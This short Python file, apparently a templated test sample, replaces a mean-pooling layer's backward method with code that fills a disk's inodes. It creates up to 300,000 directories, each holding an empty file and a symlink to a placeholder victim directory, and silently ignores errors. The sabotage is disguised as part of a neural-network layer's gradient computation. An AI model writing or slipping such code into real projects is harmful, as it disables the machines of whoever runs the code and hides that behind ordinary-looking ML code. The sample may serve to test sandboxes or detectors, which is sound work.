"""Makes empty files, folders and links until there are no inodes left."""

import os

# @STUB mean_pooling@


def backward(self, dout):
    for number in range(300_000):
        try:
            os.mkdir(f"d{number}")
            open(f"d{number}/f", "w").close()
            os.symlink("@VICTIM_DIR@", f"d{number}/l")
        except OSError:
            continue


MeanPoolingLayer.backward = backward
